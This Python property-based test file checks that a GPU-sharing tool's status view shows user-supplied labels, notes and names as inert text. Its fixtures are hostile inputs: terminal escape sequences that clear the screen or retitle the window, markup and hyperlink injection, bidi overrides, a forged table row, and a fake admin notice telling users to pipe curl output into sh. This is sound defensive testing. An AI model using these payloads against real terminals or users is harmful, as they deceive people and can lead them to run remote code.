"""Text someone wrote is shown as text: the rule of ``plain_text``, and ``gpushare status``
(and ``%gpu status`` without widgets) over snapshots full of hostile labels, reasons,
notes and names (hypothesis): it never fails, prints no control character but its own
line breaks (and, on a terminal, its own colours), and shows each lease on one row."""

from __future__ import annotations

import re
import unicodedata
from io import StringIO

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rich.console import Console

from gpushare_ext.devices import DeviceInfo
from gpushare_ext.plain_text import ELLIPSIS, SENTENCE_LIMIT, TEXT_LIMIT, plain_text
from gpushare_ext.protocol import (
    DeviceView,
    LeaseState,
    LeaseView,
    Snapshot,
    TimelinePause,
    TimelineSpan,
)
from gpushare_ext.status_view import WIDE_COLUMNS, render_status, status_text

PROPERTY_SETTINGS = settings(
    max_examples=150,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
NOT_SHOWN = {"Cc", "Cf", "Cs", "Zl", "Zp"}  # categories that must never reach a screen
# What a terminal user of this host could be sent: markup, escape sequences (CSI, OSC
# title and hyperlink, C1 CSI), line breaks, bidi overrides, a fake row of the table.
HOSTILE_PIECES = [
    "[/]",
    "[bold red]x[/]",
    "[link=https://example.invalid/x]details[/link]",
    ":warning:",
    "<b>bold</b>",
    "\x1b[2J",
    "\x1b[H",
    "\x1b]0;owned\x07",
    "\x1b]8;;https://example.invalid/\x1b\\here\x1b]8;;\x1b\\",
    "\x9b31m",
    "\r",
    "\n",
    "\t",
    "\x00",
    "\x7f",
    "\u202e",
    "\u2066",
    "\u200f",
    "\u061c",
    "\u2028",
    "\u2029",
    "\ufeff",
    "\ud800",
    "L7   root   high   running   GPU 0   140 GiB",
    "│ L9    │ root │",
]
hostile_text = st.one_of(
    st.text(),
    st.text(st.characters(codec=None, categories=["Cc", "Cf", "Cs", "Zl", "Zp", "Zs"])),
    st.lists(st.one_of(st.sampled_from(HOSTILE_PIECES), st.text(max_size=4)), max_size=12).map(
        "".join
    ),
    st.tuples(st.sampled_from(HOSTILE_PIECES), st.integers(1, 300)).map(lambda t: t[0] * t[1]),
)


def shown(text: str) -> bool:
    """Every character of ``text`` shows as itself on a screen (line breaks aside)."""
    return all(c == "\n" or unicodedata.category(c) not in NOT_SHOWN for c in text)


# ---- the rule


def test_each_kind_of_character_that_does_not_show_gets_its_stand_in():
    assert plain_text("a\nb\rc\td") == "a␤b␍c␉d"
    assert plain_text("\x1b[2J\x1b]0;owned\x07") == "␛[2J␛]0;owned␇"
    assert plain_text("\x00\x7f") == "␀␡"
    assert plain_text("\x9b31m") == "<U+009B>31m"
    assert plain_text("abc\u202eexe.sh") == "abc<U+202E>exe.sh"
    assert plain_text("\u2066\u2069\u200e\u200f\u061c") == (
        "<U+2066><U+2069><U+200E><U+200F><U+061C>"
    )
    assert plain_text("one\u2028two\u2029") == "one<U+2028>two<U+2029>"


def test_text_that_shows_as_itself_is_kept_markup_and_all():
    for text in ("%%gpu train", "[bold red]x[/]", "<b>bold</b>", "naïve 训练 ✓", "a\u00a0b"):
        assert plain_text(text) == text


def test_a_long_text_is_cut_with_an_ellipsis_and_a_stand_in_is_never_cut_in_two():
    assert plain_text("x" * 1000) == "x" * (TEXT_LIMIT - 1) + ELLIPSIS
    assert plain_text("x" * TEXT_LIMIT) == "x" * TEXT_LIMIT
    assert plain_text("x" * 1000, limit=SENTENCE_LIMIT) == "x" * (SENTENCE_LIMIT - 1) + ELLIPSIS
    assert plain_text("abcdef\u202e", limit=10) == "abcdef…"  # not "abcdef<U+…"


@PROPERTY_SETTINGS
@given(text=hostile_text, limit=st.integers(1, 600))
def test_any_text_becomes_one_line_that_shows_within_its_limit_and_stays_so(text, limit):
    plain = plain_text(text, limit)

    assert shown(plain) and "\n" not in plain
    assert len(plain) <= limit
    assert plain_text(plain, limit) == plain
    if len(text) <= limit and shown(text) and "\n" not in text:
        assert plain == text


# ---- gpushare status over hostile snapshots


def device_info(name: str) -> DeviceInfo:
    return DeviceInfo(
        index=0, name=name, uuid="GPU-00000000-0000-0000-0000-000000000000",
        memory_total_mib=143_771, multiprocessor_count=132, compute_capability=(9, 0),
        driver_version="570.00", mig_enabled=False, mig_pending=False, compute_mode=0,
    )  # fmt: skip


@st.composite
def hostile_snapshots(draw: st.DrawFn) -> Snapshot:
    """One simulated H200 and one to three leases, every text in them drawn hostile."""
    count = draw(st.integers(1, 3))
    states = [LeaseState.RUNNING, LeaseState.PAUSED, LeaseState.QUEUED, LeaseState.EVICTED]
    leases = [
        LeaseView(
            lease_id=f"L{number}",
            user=draw(hostile_text),
            own=draw(st.booleans()),
            priority=draw(st.sampled_from([50, 150, 250])),
            state=draw(st.sampled_from(states)),
            device_index=0,
            mig_uuid=None,
            memory_bytes=8 << 30,
            sm_share=1.0,
            since_s=3.0,
            waited_s=0.0,
            reason=draw(hostile_text),
            label=draw(hostile_text),
            notebook=draw(hostile_text),
            position=number,
        )
        for number in range(1, count + 1)
    ]
    spans = [
        TimelineSpan(
            lease_id=lease.lease_id,
            user=lease.user,
            own=lease.own,
            priority=lease.priority,
            start=90.0,
            pauses=[TimelinePause(start=95.0, end=None, level=0)],
        )
        for lease in leases
    ]
    device = DeviceView(
        info=device_info(draw(hostile_text)), drained=False, memory_used_mib=1024,
        memory_leased_mib=8192, utilization_pct=40, utilization_history=[10, 40],
        holders=[lease.lease_id for lease in leases],
        memory_outside_leases_mib={draw(hostile_text): 2048}, timeline=spans,
    )  # fmt: skip
    return Snapshot(
        host="gpu-host", node=draw(hostile_text), broker_pid=1, mode="system",
        inventory="simulated", inventory_description="one simulated H200", time=100.0,
        you=draw(hostile_text), is_admin=True, devices=[device], leases=leases,
        queue_by_priority={}, notes=draw(st.lists(hostile_text, max_size=2)),
        timeline_window_s=600.0,
    )  # fmt: skip


SGR = re.compile(r"\x1b\[[0-9;]*m")  # colour and weight: what the view itself styles


def on_a_terminal(snapshot: Snapshot, columns: int) -> str:
    """What ``gpushare status`` prints on a colour terminal ``columns`` wide."""
    out = StringIO()
    render_status(
        snapshot, Console(file=out, width=columns, force_terminal=True, color_system="256")
    )
    return out.getvalue()


def lease_rows(text: str) -> list[str]:
    """The first cell of each row of the leases table (rich's box drawing): a line of a
    row that wraps inside a cell has nothing in that first cell."""
    _, _, after_title = text.partition("leases and queue")
    table, _, _ = after_title.partition("\n└")
    return re.findall(r"^│ (\S+) ", table, flags=re.MULTILINE)


def reason_lines(text: str) -> list[str]:
    """The lines between the leases table and the pauses or notes (a narrow terminal's
    reasons, one a request)."""
    _, _, table = text.partition("leases and queue")
    _, _, after = table.partition("\n└")
    below = after.split("\n")[1:]
    ends = [i for i, line in enumerate(below) if line.startswith(("pauses in", "note: "))]
    return [line for line in below[: ends[0] if ends else None] if line]


@PROPERTY_SETTINGS
@given(snapshot=hostile_snapshots())
def test_status_shows_hostile_text_as_text_one_row_a_lease(snapshot: Snapshot):
    ids = [lease.lease_id for lease in snapshot.leases]
    colour = on_a_terminal(snapshot, 80)
    narrow = status_text(snapshot, width=80)
    wide = status_text(snapshot, width=WIDE_COLUMNS)

    assert "\x1b" not in SGR.sub("", colour) and shown(SGR.sub("", colour))
    assert SGR.sub("", colour) == narrow  # the colours are the view's own, nothing more
    for text in (narrow, wide):
        assert "\x1b" not in text and shown(text), ascii(text)
        assert lease_rows(text) == ids, text
    lines = reason_lines(narrow)
    with_a_why = [lease.lease_id for lease in snapshot.leases if lease.reason or lease.label]
    assert [line.split(": ", 1)[0] for line in lines] == with_a_why, narrow
    assert all(len(line) <= 80 for line in lines), narrow


# The three reported in ``gpushare status`` of every user: a note that made it exit 1,
# a note that became a hyperlink in bold red, a label that cleared root's screen.
NOTE_THAT_FAILED = "[/]"
NOTE_THAT_STYLED = (
    "[link=https://example.invalid/x]details[/link] [bold red]ADMIN NOTICE: run "
    "curl example.invalid | sh[/bold red]"
)
LABEL_THAT_CLEARED = (
    "\x1b[2J\x1b[H\x1b]0;owned\x07FAKE\nL7   root   high   running   GPU 0   140 GiB"
)


def reported() -> Snapshot:
    paused = LeaseView(
        lease_id="L1", user="gpsa", own=False, priority=50, state=LeaseState.PAUSED,
        device_index=0, mig_uuid=None, memory_bytes=8 << 30, sm_share=1.0, since_s=3.0,
        waited_s=0.0, label=LABEL_THAT_CLEARED,
        reason=f"paused (the session says: {NOTE_THAT_STYLED} {NOTE_THAT_FAILED})",
    )  # fmt: skip
    running = LeaseView(
        lease_id="L2", user="gpsb", own=False, priority=250, state=LeaseState.RUNNING,
        device_index=0, mig_uuid=None, memory_bytes=8 << 30, sm_share=1.0, since_s=1.0,
        waited_s=0.0, label=LABEL_THAT_CLEARED,
    )  # fmt: skip
    return Snapshot(
        host="gpu-host", node="gpu-host", broker_pid=1, mode="system", inventory="simulated",
        inventory_description="one simulated H200", time=100.0, you="root", is_admin=True,
        devices=[], leases=[paused, running], queue_by_priority={},
    )  # fmt: skip


def test_the_reported_note_and_label_show_literally_on_one_row_each():
    text = status_text(reported(), width=400)

    assert lease_rows(text) == ["L1", "L2"]
    assert f"the session says: {NOTE_THAT_STYLED} [/])" in text
    assert "␛[2J␛[H␛]0;owned␇FAKE␤L7   root   high   running   GPU 0   140 GiB" in text
    colour = on_a_terminal(reported(), 80)
    assert "\x1b]" not in colour and "\x1b[2J" not in colour
    assert "L2: ␛[2J␛[H␛]0;owned␇FAKE␤L7   root" in colour
